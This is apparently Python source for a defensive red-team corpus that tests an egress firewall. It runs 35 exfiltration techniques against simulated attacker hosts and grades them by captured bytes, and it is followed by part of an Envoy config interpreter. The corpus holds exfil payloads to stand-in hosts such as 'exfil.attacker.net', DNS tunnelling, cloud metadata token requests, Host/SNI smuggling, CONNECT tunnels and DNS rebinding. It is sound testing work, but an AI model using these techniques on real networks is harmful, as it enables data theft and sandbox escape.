"""Capture-graded adversarial corpus: 30 exfil techniques over real sockets.

The semantic corpus (clawker_tpu/adversarial/payloads.py) grades policy
*verdicts*.  This module re-drives the same 30 technique classes through
the :class:`~clawker_tpu.parity.world.World` -- real DNS gate socket,
executed Envoy bootstrap, real attacker listeners -- and grades the way
the reference adversarial suite does (test/adversarial/CLAUDE.md): **the
suite passes only when the captures table is empty for every
technique.**  Any byte (or DNS query, or TCP reach) that lands on
attacker infrastructure is an escape, no matter what the verdict
taxonomy said.

Techniques that have no socket representation in the world (raw/packet
sockets, native IPv6, UDP reply spoofing) are driven through the kernel
twin and synthesize a capture record when enforcement would have let
them through -- the capture DB stays the single grading surface.

Reference: /root/reference/test/adversarial (attacker-server +
payloads/01..30); technique classes re-derived, not copied.
"""

from __future__ import annotations

import struct
import time
from pathlib import Path
from typing import Callable

from ..config.schema import EgressRule
from ..firewall import policy as policy_mod
from ..firewall.dnsgate import _encode_name
from ..firewall.hashes import zone_hash
from ..firewall.model import Action, DnsEntry
from .world import CG_AGENT, DNS_IP, ENVOY_IP, HOSTPROXY_IP, EgressBlocked, World

ATTACKER_DOMAIN = "exfil.attacker.net"

TECHNIQUES: list[tuple[str, "Callable[[World], str]"]] = []


def technique(name: str):
    def reg(fn):
        TECHNIQUES.append((name, fn))
        return fn
    return reg


def build_world(tmp: Path) -> World:
    """The standing rule set the corpus attacks (mirrors the semantic
    corpus defaults: wildcard TLS, exact TLS, ssh lane, plain HTTP).

    intra_net mirrors PRODUCTION enrollment (handler._container_policy
    always populates the bridge CIDR now): the corpus must grade the
    policy that ships, not a stricter test-only one.  The gateway
    exclusion keeps host ports out of the bypass."""
    from ..config.schema import PathRule

    rules = [
        EgressRule(dst="*.example.com", proto="https"),
        EgressRule(dst="exact.example.org", proto="https"),
        EgressRule(dst="github.com", proto="ssh", port=22),
        EgressRule(dst="plain.example.net", proto="http"),
        # wildcard MITM lane (path rules force inspection): the surface
        # techniques 31+ attack -- its DFP upstream resolves the request
        # authority, so vhost scoping is load-bearing
        EgressRule(dst="*.mitm.example.net", proto="https",
                   path_rules=[PathRule(path="/", action="allow")],
                   path_default="allow"),
    ]
    w = World(rules, tmp, intra_net=("10.99.0.0", 24))
    w.add_origin(["example.com", "api.example.com", "tun1.example.com"])
    w.add_origin(["exact.example.org", "sub.exact.example.org"])
    w.add_origin(["github.com"], banner=b"SSH-2.0-OpenSSH_9.6\r\n")
    w.add_origin(["plain.example.net"])
    w.add_origin(["mitm.example.net", "api.mitm.example.net"])
    w.add_attacker_host(ATTACKER_DOMAIN)
    w.add_attacker_host("attacker.net")
    w.add_attacker_host("evilexample.com")
    w.add_attacker_host("example.com.attacker.net")
    return w


def _atk_ip(w: World) -> str:
    return w.dns_table[ATTACKER_DOMAIN]


def _try_tcp(w: World, name: str, ip: str, port: int,
             payload: bytes = b"") -> str:
    """Attempt a TCP exfil; on kernel allow the bytes really flow (and
    the capture DB sees them)."""
    try:
        sock = w.open_tcp(ip, port, technique=name)
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"
    except OSError as e:
        return f"unreachable: {e}"
    try:
        if payload:
            sock.sendall(payload)
        sock.settimeout(2.0)
        try:
            sock.recv(256)
        except OSError:
            pass
    finally:
        sock.close()
    time.sleep(0.05)  # let the capture handler commit
    return "bytes flowed"


def _synth_on_allow(w: World, name: str, verdict, proto: str,
                    what: bytes) -> str:
    """Kernel-twin-only technique: enforcement failing open IS the
    escape, so record it in the capture DB where the grader looks."""
    if verdict.action is Action.DENY:
        return f"kernel deny: {verdict.reason.name}"
    w.attacker.set_technique(name)
    w.attacker.store.insert(name, proto, "synthetic", what)
    return f"fail-open: {verdict.action.name}/{verdict.reason.name}"


def _dns_query_bytes(qname: str) -> bytes:
    hdr = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    return hdr + _encode_name(qname) + struct.pack(">HH", 1, 1)


# ------------------------------------------------------------- techniques

@technique("01-direct-ip-https")
def t01(w): return _try_tcp(w, "01-direct-ip-https", _atk_ip(w), 443)


@technique("02-direct-ip-http")
def t02(w): return _try_tcp(w, "02-direct-ip-http", _atk_ip(w), 80,
                            b"GET /exfil?d=s3cr3t HTTP/1.1\r\nhost: x\r\n\r\n")


@technique("03-high-port-tcp")
def t03(w): return _try_tcp(w, "03-high-port-tcp", _atk_ip(w), 4444,
                            b"BEACON s3cr3t")


@technique("04-udp-datagram")
def t04(w):
    try:
        w.send_udp(_atk_ip(w), 9999, b"UDP EXFIL s3cr3t",
                   technique="04-udp-datagram")
        time.sleep(0.05)
        return "datagram sent"
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"


@technique("05-icmp-ping")
def t05(w):
    return _synth_on_allow(w, "05-icmp-ping", w.raw_socket_verdict(),
                           "icmp", b"<raw socket opened: icmp tunnel>")


@technique("06-packet-socket")
def t06(w):
    v = policy_mod.sock_create(w.maps, CG_AGENT, 2, policy_mod.SOCK_PACKET)
    return _synth_on_allow(w, "06-packet-socket", v, "packet",
                           b"<packet socket opened>")


@technique("07-hardcoded-resolver")
def t07(w):
    try:
        w.send_udp("8.8.8.8", 53, _dns_query_bytes(f"c2hlbGw.{ATTACKER_DOMAIN}"),
                   technique="07-hardcoded-resolver")
        time.sleep(0.05)
        return "query sent (rewritten to gate or captured)"
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"


@technique("08-resolve-attacker-domain")
def t08(w):
    w.attacker.set_technique("08-resolve-attacker-domain")
    rcode, ips = w.dig(ATTACKER_DOMAIN)
    return f"rcode={rcode} ips={ips}"


@technique("09-dns-tunnel")
def t09(w):
    w.attacker.set_technique("09-dns-tunnel")
    out = []
    for chunk in ("aGVsbG8", "d29ybGQ", "ZXhmaWw"):
        rcode, _ = w.dig(f"{chunk}.{ATTACKER_DOMAIN}")
        out.append(rcode)
    return f"rcodes={out}"


@technique("10-dns-tunnel-allowed-zone")
def t10(w):
    # data-in-label under an ALLOWED zone resolves via the gate (logged
    # upstream traffic to a benign resolver) -- contained, not captured
    w.attacker.set_technique("10-dns-tunnel-allowed-zone")
    rcode, _ = w.dig("tun1.example.com")
    return f"rcode={rcode} (allowed zone, benign upstream)"


@technique("11-ipv6-literal")
def t11(w):
    v = policy_mod.connect6(w.maps, CG_AGENT, "2001:db8::bad", 443)
    return _synth_on_allow(w, "11-ipv6-literal", v, "tcp6",
                           b"<native v6 egress>")


@technique("12-v4mapped-attacker")
def t12(w):
    v = policy_mod.connect6(w.maps, CG_AGENT, f"::ffff:{_atk_ip(w)}", 443)
    if v.action is Action.DENY:
        return f"kernel deny: {v.reason.name}"
    # the v4-mapped decision fell through: drive the real v4 connect
    return _try_tcp(w, "12-v4mapped-attacker", _atk_ip(w), 443)


@technique("13-loopback-not-egress")
def t13(w):
    # loopback must stay open (not egress) -- and produce zero captures
    v = policy_mod.connect4(w.maps, CG_AGENT, "127.0.0.1", 8080,
                            sock_cookie=w.cookie())
    return f"loopback verdict: {v.action.name} (functional, no exfil path)"


@technique("14-stale-cache-unruled-zone")
def t14(w):
    w.maps.cache_dns(_atk_ip(w), DnsEntry(
        zone_hash=zone_hash(ATTACKER_DOMAIN),
        expires_unix=int(time.time()) + 300))
    return _try_tcp(w, "14-stale-cache-unruled-zone", _atk_ip(w), 443)


@technique("15-port53-tcp-masquerade")
def t15(w): return _try_tcp(w, "15-port53-tcp-masquerade", _atk_ip(w), 53,
                            b"\x00\x20" + _dns_query_bytes(ATTACKER_DOMAIN))


@technique("16-udp53-masquerade")
def t16(w):
    try:
        w.send_udp(_atk_ip(w), 53, _dns_query_bytes("x.example.com"),
                   technique="16-udp53-masquerade")
        time.sleep(0.05)
        return "datagram sent (gate-rewritten or captured)"
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"


@technique("17-envoy-direct-wrong-sni")
def t17(w):
    import ssl
    w.attacker.set_technique("17-envoy-direct-wrong-sni")
    try:
        sock = w.open_tcp(ENVOY_IP, 10000, technique="17-envoy-direct-wrong-sni")
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"
    try:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        try:
            tls = ctx.wrap_socket(sock, server_hostname=ATTACKER_DOMAIN)
            tls.sendall(b"EXFIL")
            tls.close()
            return "handshake completed against attacker SNI"
        except (ssl.SSLError, OSError):
            return "proxy refused unknown SNI"
    finally:
        sock.close()


@technique("18-hostproxy-off-port")
def t18(w): return _try_tcp(w, "18-hostproxy-off-port", HOSTPROXY_IP, 2222)


@technique("19-gateway-service-scan")
def t19(w):
    out = []
    for port in (80, 443, 8080):
        out.append(_try_tcp(w, "19-gateway-service-scan", DNS_IP, port))
    return "; ".join(out)


@technique("20-subnet-neighbor-scan")
def t20(w): return _try_tcp(w, "20-subnet-neighbor-scan", "10.99.0.9", 445)


@technique("21-cloud-metadata")
def t21(w): return _try_tcp(w, "21-cloud-metadata", "169.254.169.254", 80,
                            b"GET /computeMetadata/v1/token HTTP/1.1\r\n\r\n")


@technique("22-ttl-expiry-race")
def t22(w):
    ip = "198.51.100.250"
    w.maps.cache_dns(ip, DnsEntry(zone_hash=zone_hash("example.com"),
                                  expires_unix=int(time.time()) - 10))
    w.maps.expire_dns()
    return _try_tcp(w, "22-ttl-expiry-race", ip, 443)


@technique("23-allowed-zone-wrong-port")
def t23(w):
    rcode, ips = w.dig("api.example.com")
    ip = ips[0] if ips else "198.51.100.10"
    return _try_tcp(w, "23-allowed-zone-wrong-port", ip, 2222)


@technique("24-allowed-zone-wrong-proto")
def t24(w):
    rcode, ips = w.dig("api.example.com")
    ip = ips[0] if ips else "198.51.100.10"
    try:
        w.send_udp(ip, 443, b"quic-shaped exfil",
                   technique="24-allowed-zone-wrong-proto")
        return "datagram sent"
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"


@technique("25-exact-rule-subdomain")
def t25(w):
    w.attacker.set_technique("25-exact-rule-subdomain")
    rcode, ips = w.dig("sub.exact.example.org")
    return f"rcode={rcode} ips={ips}"


@technique("26-lookalike-domain")
def t26(w):
    w.attacker.set_technique("26-lookalike-domain")
    rcode, ips = w.dig("evilexample.com")
    return f"rcode={rcode} ips={ips}"


@technique("27-zone-suffix-confusion")
def t27(w):
    w.attacker.set_technique("27-zone-suffix-confusion")
    rcode, ips = w.dig("example.com.attacker.net")
    return f"rcode={rcode} ips={ips}"


@technique("28-expired-bypass")
def t28(w):
    w.maps.set_bypass(CG_AGENT, int(time.time()) - 3600)
    try:
        return _try_tcp(w, "28-expired-bypass", _atk_ip(w), 443)
    finally:
        w.maps.clear_bypass(CG_AGENT)


@technique("29-udp-reply-spoof")
def t29(w):
    cookie = w.cookie()
    policy_mod.sendmsg4(w.maps, CG_AGENT, cookie, "9.9.9.9", 53)
    src = policy_mod.recvmsg4(w.maps, CG_AGENT, cookie, _atk_ip(w), 53)
    if src == (_atk_ip(w), 53):
        return "spoofed reply surfaced unmasked"
    w.attacker.set_technique("29-udp-reply-spoof")
    w.attacker.store.insert("29-udp-reply-spoof", "udp", "synthetic",
                            b"<reply spoof accepted as resolver traffic>")
    return f"spoof masked as {src} -- reverse-NAT confused"


@technique("30-allowed-flow-is-proxied")
def t30(w):
    # the happy path: allowed https must ride the proxy chokepoint AND
    # work; a direct-allow or a broken lane both fail the corpus
    w.attacker.set_technique("30-allowed-flow-is-proxied")
    v = policy_mod.connect4(w.maps, CG_AGENT, "198.51.100.10", 443,
                            sock_cookie=w.cookie())
    if v.action is Action.ALLOW:
        w.attacker.store.insert("30-allowed-flow-is-proxied", "tcp",
                                "synthetic", b"<allowed https went direct>")
        return "allowed https went direct (policy hole)"
    res = w.curl("https://api.example.com/ping")
    if not res.ok:
        # not an escape, but the corpus demands the chokepoint WORKS
        raise AssertionError(
            f"allowed flow broken through proxy: {res.err or res.code}")
    proxied = any(rec.get("sni") == "api.example.com" or
                  rec.get("authority", "").startswith("api.example.com")
                  for rec in w.envoy.access_log)
    if not proxied:
        raise AssertionError("allowed flow left no proxy access-log trace")
    return f"proxied, code={res.code}"


def _smuggle_https(w: World, name: str, sni: str, host: str,
                   target: str = "/exfil?d=s3cr3t",
                   method: str = "GET") -> str:
    """Handshake with an ALLOWED SNI, then smuggle a foreign Host."""
    import ssl

    rcode, ips = w.dig(sni)
    if rcode != 0 or not ips:
        return f"{sni} did not resolve (rcode={rcode})"
    try:
        sock = w.open_tcp(ips[0], 443, technique=name)
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"
    try:
        ctx = ssl.create_default_context(cafile=str(w.ca_bundle))
        tls = ctx.wrap_socket(sock, server_hostname=sni)
        tls.sendall(f"{method} {target} HTTP/1.1\r\nhost: {host}\r\n"
                    "connection: close\r\n\r\n".encode())
        out = b""
        try:
            while len(out) < 4096:
                chunk = tls.recv(4096)
                if not chunk:
                    break
                out += chunk
        except OSError:
            pass
        tls.close()
        status = out.split(b"\r\n", 1)[0].decode("latin-1", "replace")
        time.sleep(0.1)
        return f"proxy answered: {status or '<closed>'}"
    except (OSError, ValueError) as e:
        return f"handshake/send failed: {e.__class__.__name__}"
    finally:
        sock.close()


# Techniques 31+ go BEYOND the reference's 30 payload classes: header-
# authority confusion against the MITM/HTTP lanes.  31 found a real
# escape during development (catch-all MITM vhosts let Host smuggling
# ride the DFP cluster to arbitrary upstreams); the corpus pins the fix.

@technique("31-sni-host-mismatch")
def t31(w):
    return _smuggle_https(w, "31-sni-host-mismatch",
                          "api.mitm.example.net", ATTACKER_DOMAIN)


@technique("32-host-mismatch-plain-http")
def t32(w):
    rcode, ips = w.dig("plain.example.net")
    if rcode != 0 or not ips:
        return f"plain.example.net did not resolve (rcode={rcode})"
    try:
        sock = w.open_tcp(ips[0], 80, technique="32-host-mismatch-plain-http")
    except EgressBlocked as e:
        return f"kernel deny: {e.reason.name}"
    try:
        sock.sendall(b"GET /exfil HTTP/1.1\r\nhost: " +
                     ATTACKER_DOMAIN.encode() + b"\r\nconnection: close\r\n\r\n")
        sock.settimeout(2.0)
        try:
            out = sock.recv(256)
        except OSError:
            out = b""
        time.sleep(0.1)
        status = out.split(b"\r\n", 1)[0].decode("latin-1", "replace")
        return f"proxy answered: {status}"
    finally:
        sock.close()


@technique("33-absolute-uri-authority")
def t33(w):
    # absolute-form request line: some proxies derive :authority from the
    # URI, overriding Host -- must not become an exfil channel either
    return _smuggle_https(w, "33-absolute-uri-authority",
                          "api.mitm.example.net", "api.mitm.example.net",
                          target=f"http://{ATTACKER_DOMAIN}/exfil")


@technique("34-dns-rebinding")
def t34(w):
    """An ALLOWED zone whose (attacker-run) DNS answers a link-local
    metadata address: the gate must refuse the answer -- a cached
    ip->zone entry would open a kernel route to 169.254.169.254."""
    meta_ip = "169.254.169.254"
    w.dns_table["meta.example.com"] = meta_ip        # hostile upstream A
    # if the rebound address ever becomes reachable, the bytes land on
    # attacker-visible infrastructure (the metadata thief's collector)
    w.endpoints[(meta_ip, 80)] = ("127.0.0.1", w.attacker.http_port)
    w.attacker.set_technique("34-dns-rebinding")
    rcode, ips = w.dig("meta.example.com")
    if rcode == 0 and ips:
        return _try_tcp(w, "34-dns-rebinding", ips[0], 80,
                        b"GET /computeMetadata/v1/token HTTP/1.1\r\n\r\n")
    verdict = _try_tcp(w, "34-dns-rebinding", meta_ip, 80)
    return f"rebind answer refused (rcode={rcode}); direct: {verdict}"


@technique("35-connect-tunnel")
def t35(w):
    """HTTP CONNECT through the MITM lane must not open a raw tunnel."""
    return _smuggle_https(w, "35-connect-tunnel", "api.mitm.example.net",
                          f"{ATTACKER_DOMAIN}:443",
                          target=f"{ATTACKER_DOMAIN}:443",
                          method="CONNECT")


# ---------------------------------------------------------------- grading

# How each technique's verdict is observed.  "socket": a real socket in
# the World (attacker listeners, executed Envoy, live DNS gate).  "twin":
# the kernel twin decides and a capture is synthesized on fail-open --
# honest, but it inherits the twin's fidelity.  "mixed": a twin verdict
# step guards a socket drive.  Twin-graded techniques are re-graded on
# the REAL kernel (kernel_regrade) wherever bpf(2) works, which is the
# fidelity the reference gets from its e2e containers.
TWIN_GRADED = {"05-icmp-ping", "06-packet-socket", "11-ipv6-literal",
               "13-loopback-not-egress", "29-udp-reply-spoof"}
MIXED_GRADED = {"12-v4mapped-attacker", "30-allowed-flow-is-proxied"}


def grading_of(name: str) -> str:
    if name in TWIN_GRADED:
        return "twin"
    if name in MIXED_GRADED:
        return "mixed"
    return "socket"


def _kprobe_packet_as_nobody() -> dict:
    """Packet sockets are OUTSIDE the inet sock_create hook's scope (the
    kernel only runs it for AF_INET/AF_INET6 creation); containment is
    the dropped CAP_NET_RAW in agent containers.  Reproduce that: drop
    privileges, then try both packet-socket forms."""
    import os as _os
    import socket as _s

    _os.setgroups([])
    _os.setresgid(65534, 65534, 65534)
    _os.setresuid(65534, 65534, 65534)
    out = {}
    for label, args in (("af_packet_raw", (17, _s.SOCK_RAW, 0x0300)),
                        ("legacy_sock_packet", (_s.AF_INET, 10, 0x0300))):
        try:
            _s.socket(*args).close()
            out[label] = "created"
        except OSError as e:
            out[label] = "eperm" if e.errno == 1 else f"errno-{e.errno}"
    return out


def _kprobe_udp_spoof() -> dict:
    """Victim flow to 9.9.9.9:53 (redirected to the gate), then a spoof
    datagram from a non-gate source: reverse-NAT must unmask only real
    gate replies."""
    import socket as _s

    victim = _s.socket(_s.AF_INET, _s.SOCK_DGRAM)
    victim.settimeout(1.0)
    victim.sendto(b"ping", ("9.9.9.9", 53))
    try:
        _, gate_src = victim.recvfrom(512)
    except OSError:
        gate_src = ("none", 0)
    port = victim.getsockname()[1]
    spoofer = _s.socket(_s.AF_INET, _s.SOCK_DGRAM)
    spoofer.bind(("127.0.0.2", 0))
    sp_port = spoofer.getsockname()[1]
    spoofer.sendto(b"<reply spoof>", ("127.0.0.1", port))
    try:
        _, spoof_src = victim.recvfrom(512)
    except OSError:
        spoof_src = ("none", 0)
    victim.close()
    spoofer.close()
    return {"gate_reply_src": list(gate_src),
            "spoof_src": list(spoof_src), "spoof_port": sp_port}


def kernel_regrade(tag: str = "redteam-kernel") -> dict | None:
    """Re-grade the twin-graded techniques against the real kernel:
    verifier-loaded programs on a scratch cgroup, probe children, real
    syscall results.  Returns {technique: {"pass", "detail"}} or None
    when bpf(2)/cgroup-v2 is unavailable."""
    from ..firewall import bpfkern
    from ..firewall.model import ContainerPolicy, FLAG_ENFORCE

    if not bpfkern.kernel_available():
        return None
    from ..firewall.bpflive import (
        LiveSandbox, TcpEcho, UdpResponder, probe_raw_socket,
        probe_tcp_connect, probe_tcp_connect6,
    )

    out: dict[str, dict] = {}

    def grade(name, ok, detail):
        out[name] = {"pass": bool(ok), "detail": detail}

    def skip(name, detail):
        # environment artifact, not a containment verdict: never flips
        # the technique's twin grade (bpfgate.py treats this the same)
        out[name] = {"pass": True, "skipped": True, "detail": detail}

    with LiveSandbox(tag) as sb:
        sb.enroll(ContainerPolicy(envoy_ip="127.0.0.1", dns_ip="127.0.0.1",
                                  flags=FLAG_ENFORCE))
        r = sb.run_in_cgroup(probe_raw_socket)
        grade("05-icmp-ping", r["result"] == "eperm",
              f"real SOCK_RAW: {r['result']}")
        r = sb.run_in_cgroup(_kprobe_packet_as_nobody)
        ok = ("error" not in r
              and r.get("af_packet_raw") == "eperm"
              and r.get("legacy_sock_packet") == "eperm")
        grade("06-packet-socket", ok,
              f"cap-contained (hook is inet-scoped): {r}")
        r = sb.run_in_cgroup(probe_tcp_connect6, "2001:db8::bad", 443, 1.0)
        grade("11-ipv6-literal", r["result"] == "eperm",
              f"real v6 connect: {r['result']}")
        r = sb.run_in_cgroup(probe_tcp_connect6, "::ffff:192.0.2.99", 443, 1.0)
        grade("12-v4mapped-attacker", r["result"] == "eperm",
              f"real v4-mapped connect: {r['result']}")
        srv = TcpEcho()
        srv.start()
        try:
            r = sb.run_in_cgroup(probe_tcp_connect, "127.0.0.1", srv.port, 1.0)
            grade("13-loopback-not-egress", r["result"] == "connected",
                  f"real loopback connect: {r['result']}")
        finally:
            srv.stop()
        gate = None
        try:
            gate = UdpResponder(port=53, reply=b"gate-reply")
            gate.start()
        except OSError as e:
            skip("29-udp-reply-spoof",
                 f"SKIP: cannot bind 127.0.0.1:53 ({e}) -- twin grade stands")
        if gate is not None:
            try:
                r = sb.run_in_cgroup(_kprobe_udp_spoof)
                ok = ("error" not in r
                      and r.get("gate_reply_src") == ["9.9.9.9", 53]
                      and (r.get("spoof_src") or ["?"])[0] == "127.0.0.2")
                grade("29-udp-reply-spoof", ok,
                      f"gate reply unmasked as {r.get('gate_reply_src')}, "
                      f"spoof surfaced as {r.get('spoof_src')}")
            finally:
                gate.stop()
    return out


def _corpus_shard(args: tuple[list[int], str]) -> dict:
    """Drive one shard of technique indices through its OWN World (its
    own tmpdir subtree, DNS gate socket, attacker listeners).  Top-level
    so a process pool can dispatch it; rows carry their original index
    so the merged scorecard keeps corpus order."""
    indices, base_str = args
    w = build_world(Path(base_str))
    rows = []
    try:
        for i in indices:
            name, fn = TECHNIQUES[i]
            w.attacker.set_technique(name)
            before = w.attacker.store.count()
            try:
                detail = fn(w)
                err = ""
            except AssertionError as e:
                detail, err = "", str(e)
            except Exception as e:  # noqa: BLE001 - corpus must finish
                detail, err = "", f"{e.__class__.__name__}: {e}"
            time.sleep(0.02)
            captured = w.attacker.store.count() - before
            ok = captured == 0 and not err
            rows.append({
                "index": i,
                "technique": name, "pass": ok, "captures": captured,
                "grading": grading_of(name), "detail": err or detail,
            })
        return {"rows": rows, "captures": w.attacker.store.count(),
                "evidence": [list(r) for r in w.attacker.store.all()]}
    finally:
        w.close()


def corpus_shards(base: Path, jobs: int) -> list[tuple[list[int], str]]:
    """Round-robin technique-index shards, one World subtree each;
    every entry is a ready-to-dispatch :func:`_corpus_shard` arg."""
    n = len(TECHNIQUES)
    if jobs <= 1:
        return [(list(range(n)), str(base / "world"))]
    jobs = min(jobs, n)
    return [(list(range(j, n, jobs)), str(base / f"world-{j}"))
            for j in range(jobs)]


def run_corpus(base: Path, jobs: int = 1) -> dict:
    """Drive every technique (30 reference classes + the beyond-reference
    31+ set) through capture-graded Worlds; per-technique capture counts.
    Returns the scorecard dict (never raises).

    ``jobs > 1`` shards the techniques round-robin across N worlds run
    in parallel PROCESSES (each world binds only ephemeral ports and
    owns its tmpdir subtree; the capture store stays per-world, so
    per-technique before/after counting is exactly as isolated as the
    serial single-world run).  The kernel regrade still runs once, in
    the parent, over the merged rows."""
    shards = corpus_shards(base, jobs)
    if len(shards) == 1:
        shard_docs = [_corpus_shard(shards[0])]
    else:
        import multiprocessing
        from concurrent.futures import ProcessPoolExecutor

        with ProcessPoolExecutor(
                max_workers=len(shards),
                mp_context=multiprocessing.get_context("fork")) as ex:
            shard_docs = list(ex.map(_corpus_shard, shards))
    return merge_shards(shard_docs)


def merge_shards(shard_docs: list[dict]) -> dict:
    """Fold shard scorecards back into corpus order and run the one
    parent-side kernel regrade over the merged rows."""
    results = sorted((r for doc in shard_docs for r in doc["rows"]),
                     key=lambda r: r.pop("index"))
    total_captures = sum(doc["captures"] for doc in shard_docs)
    evidence = [row for doc in shard_docs for row in doc["evidence"]]
    kernel_error = ""
    try:
        kernel = kernel_regrade()
    except Exception as e:  # noqa: BLE001 - regrade must not sink the corpus
        kernel = None
        kernel_error = f"{e.__class__.__name__}: {e}"
    if kernel:
        for r in results:
            kr = kernel.get(r["technique"])
            if kr is not None:
                r["kernel_regrade"] = kr
                if not kr["pass"]:
                    # the real kernel outranks the twin: a regrade
                    # failure fails the technique
                    r["pass"] = False
                    r["detail"] += f" | KERNEL REGRADE FAILED: {kr['detail']}"
    return {
        "passed": sum(1 for r in results if r["pass"]),
        "total": len(results),
        "captures": total_captures,
        "kernel_regraded": sorted(kernel or {}),
        "kernel_regrade_available": kernel is not None,
        "kernel_regrade_error": kernel_error,
        "capture_rows": [list(row) for row in evidence],
        "techniques": results,
    }
