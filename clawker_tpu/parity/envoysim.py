"""Executable interpreter for the generated Envoy bootstrap.

``generate_envoy_config`` emits a bootstrap YAML that, in production, a
real Envoy process loads.  This module LOADS THAT SAME YAML and serves
real localhost sockets with the semantics the config declares: the TLS
listener sniffs SNI off the actual ClientHello and dispatches to the
matching filter chain (MITM chains terminate TLS with the configured
cert files and apply HTTP route verdicts; passthrough chains splice the
raw bytes to the cluster upstream), the plain-HTTP listener routes on
the Host header, and sequential tcp_proxy listeners splice to their
pinned clusters.  Parity verdicts produced through this interpreter are
backed by config that was *executed*, not merely rendered -- the gap the
round-2 review flagged ("CONTAINED rests on YAML never loaded by an
Envoy process").

Semantics sources (re-derived, not copied):
- filter-chain SNI match + default refuse: reference envoy_config.go
  GenerateEnvoyConfig TLS listener (SURVEY.md 2.8).
- HCM hardening (normalize_path, merge_slashes,
  path_with_escaped_slashes_action=UNESCAPE_AND_REDIRECT): reference
  envoy_http.go:411; exercised by e2e firewall_test.go:1131.  The
  percent-decode here iterates to a fixpoint, which is *stricter* than
  Envoy's single pass -- a security boundary may tighten, never loosen.
- direct_response deny routes: envoy_http.go httpDenyRoute.

Listener ports from the config are virtual (10000, 10001...); the sim
binds 127.0.0.1 ephemerals and exposes ``port_map`` so the kernel-twin
dialer can translate REDIRECT verdicts the same way the TPU-VM kernel
would rewrite to the real Envoy.
"""

from __future__ import annotations

import socket
import ssl
import struct
import threading
import urllib.parse
from dataclasses import dataclass, field
from typing import Callable

import yaml

# resolve(host, port) -> (real_host, real_port) | None.  Models what
# LOGICAL_DNS / dynamic_forward_proxy resolution sees from inside the
# proxy: the world's virtual internet.
Resolve = Callable[[str, int], "tuple[str, int] | None"]

_MAX_HEAD = 64 * 1024


class TlsParseError(Exception):
    pass


def parse_client_hello_sni(data: bytes) -> str | None:
    """Extract SNI from a raw TLS ClientHello record (RFC 6066)."""
    if len(data) < 5 or data[0] != 0x16:
        raise TlsParseError("not a TLS handshake record")
    rec_len = struct.unpack(">H", data[3:5])[0]
    if len(data) < 5 + rec_len:
        raise TlsParseError("short record")
    body = data[5:5 + rec_len]
    if not body or body[0] != 0x01:
        raise TlsParseError("not a ClientHello")
    off = 4 + 2 + 32  # msg hdr + client_version + random
    if off >= len(body):
        raise TlsParseError("truncated hello")
    sid_len = body[off]
    off += 1 + sid_len
    if off + 2 > len(body):
        raise TlsParseError("truncated ciphers")
    cs_len = struct.unpack(">H", body[off:off + 2])[0]
    off += 2 + cs_len
    if off >= len(body):
        raise TlsParseError("truncated compression")
    comp_len = body[off]
    off += 1 + comp_len
    if off + 2 > len(body):
        return None  # no extensions
    ext_total = struct.unpack(">H", body[off:off + 2])[0]
    off += 2
    end = min(len(body), off + ext_total)
    while off + 4 <= end:
        etype, elen = struct.unpack(">HH", body[off:off + 4])
        off += 4
        if etype == 0 and off + elen <= end:  # server_name
            # list_len(2) type(1) name_len(2) name
            if elen >= 5:
                name_len = struct.unpack(">H", body[off + 3:off + 5])[0]
                return body[off + 5:off + 5 + name_len].decode("ascii", "replace")
        off += elen
    return None


def normalize_path(raw: str) -> tuple[str, bool]:
    """(normalized_path, had_escaped_slash).

    merge_slashes + percent-decode-to-fixpoint + dot-segment resolution.
    had_escaped_slash=True means the raw path hid a slash behind %2F/%5C
    -- the UNESCAPE_AND_REDIRECT case (client is 307'd to the clean
    path, reference envoy_http.go:419)."""
    qpos = raw.find("?")
    path, query = (raw[:qpos], raw[qpos:]) if qpos >= 0 else (raw, "")
    had_escaped_slash = any(
        t in path.lower() for t in ("%2f", "%5c"))
    # decode to fixpoint (capped): defeats double-encoding smuggling
    for _ in range(4):
        decoded = urllib.parse.unquote(path)
        if decoded == path:
            break
        path = decoded
    path = path.replace("\\", "/")
    # merge slashes + resolve dot segments
    out: list[str] = []
    for seg in path.split("/"):
        if seg in ("", "."):
            continue
        if seg == "..":
            if out:
                out.pop()
            continue
        out.append(seg)
    norm = "/" + "/".join(out)
    if path.endswith("/") and norm != "/":
        norm += "/"
    return norm + query, had_escaped_slash


def _host_matches(pattern: str, host: str) -> bool:
    """Envoy virtual-host domain match (exact, *.suffix, host:*).

    Faithful to Envoy: ``*.example.com`` matches subdomains ONLY, never
    the bare apex -- configs that want the apex list it explicitly.  (An
    apex-matching wildcard here once masked a Host-smuggling bypass the
    generator had already fixed.)"""
    pattern, host = pattern.lower(), host.lower()
    if pattern.endswith(":*"):
        return _host_matches(pattern[:-2], host.rsplit(":", 1)[0])
    host = host.rsplit(":", 1)[0] if ":" in host else host
    if pattern.startswith("*."):
        return host.endswith(pattern[1:])
    if pattern == "*":
        return True
    return host == pattern


def _sni_matches(server_names: list[str], sni: str | None) -> bool:
    """filter_chain_match server_names, Envoy-faithful: a ``*.`` entry
    matches subdomains only (the generator lists the apex explicitly
    when a wildcard rule admits it)."""
    if sni is None:
        return False
    sni = sni.lower().rstrip(".")
    for name in server_names:
        name = name.lower()
        if name.startswith("*."):
            if sni.endswith(name[1:]):
                return True
        elif sni == name:
            return True
    return False


@dataclass
class HttpRequest:
    method: str
    target: str
    version: str
    headers: dict[str, str]
    body: bytes
    raw_head: bytes

    @property
    def host(self) -> str:
        return self.headers.get("host", "")


def read_http_request(rfile) -> HttpRequest | None:
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = rfile.read(1)
        if not chunk:
            return None
        head += chunk
        if len(head) > _MAX_HEAD:
            return None
    lines = head.split(b"\r\n")
    try:
        method, target, version = lines[0].decode("latin-1").split(" ", 2)
    except ValueError:
        return None
    headers: dict[str, str] = {}
    for line in lines[1:]:
        if b":" in line:
            k, v = line.split(b":", 1)
            headers[k.decode("latin-1").strip().lower()] = v.decode("latin-1").strip()
    body = b""
    clen = int(headers.get("content-length", "0") or "0")
    while len(body) < clen:
